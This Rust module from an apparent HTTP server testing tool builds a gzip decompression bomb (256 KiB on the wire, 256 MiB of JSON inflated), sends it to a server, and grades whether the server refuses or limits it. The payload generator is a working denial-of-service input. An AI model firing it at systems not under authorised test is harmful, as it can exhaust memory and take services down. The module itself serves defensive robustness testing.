//! A body that is small on the wire and large once it is decompressed.

use std::io::Write;

use flate2::Compression;
use flate2::write::GzEncoder;

use super::fate::{Fate, fate};
use crate::attack::answers;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Excuse, Findings, Mark};

/// The size once it is decompressed, in bytes; a thousandth of it on the wire.
const INFLATED: usize = 256 << 20;
/// Written into the encoder at a time.
const PIECE: usize = 1 << 20;

pub(crate) const ATTACK: Attack = Attack {
    id: "gzip-bomb",
    what: "sends a gzip body of 256 KiB that is 256 MiB of JSON once it is decompressed",
    source: "CWE-409; RFC 9110, 8.4 and 15.5.16",
    correct: "415, 413 or another 4xx; decompression is limited where it is done at all",
    memory: Some(INFLATED as u64 / 2),
    launch: |context| Box::pin(launch(context)),
};

async fn launch(context: &Context<'_>) -> Findings {
    let (request, known) = context.body_route();
    let bomb = tokio::task::spawn_blocking(bomb).await.map_err(|error| Excuse::Unknown(error.to_string()))?;
    let request = request.header("Content-Encoding", "gzip").body(bomb);
    let bytes = context.bytes(&request);
    let heard = context.exchange(&bytes, context.bounds.answer).await?;
    let (mark, what) = match fate(&heard, 0) {
        Fate::Refused(status) => (Mark::Right, format!("refused with {status}")),
        Fate::Served(405) => (Mark::Right, "refused with 405".to_owned()),
        Fate::Closed => (Mark::Right, "the connection is closed without an answer".to_owned()),
        Fate::Served(_) if !known => {
            return Err(Excuse::Unknown("no path that takes a body is known: name one".to_owned()));
        }
        Fate::Served(status @ 200..=299) => (Mark::Wrong, format!("taken and answered {status}: there is no limit")),
        Fate::Served(status) => (Mark::Tolerated, format!("answered {status}")),
        Fate::Failed(status) => (Mark::Wrong, format!("it fails with {status}")),
        Fate::Silent => (Mark::Wrong, format!("neither answered nor closed within {:?}", context.bounds.answer)),
    };
    Ok(vec![Evidence::new(mark, what).exchange(answers::shown(&bytes[..bytes.len().min(300)]), answers::told(&heard))])
}

/// A JSON object with one long string.
fn bomb() -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let piece = vec![b'a'; PIECE];
    let mut write = |bytes: &[u8]| encoder.write_all(bytes).expect("a vector takes everything");
    write(b"{\"keel\":\"");
    for _ in 0..INFLATED / PIECE {
        write(&piece);
    }
    write(b"\"}");
    encoder.finish().expect("a vector takes everything")
}
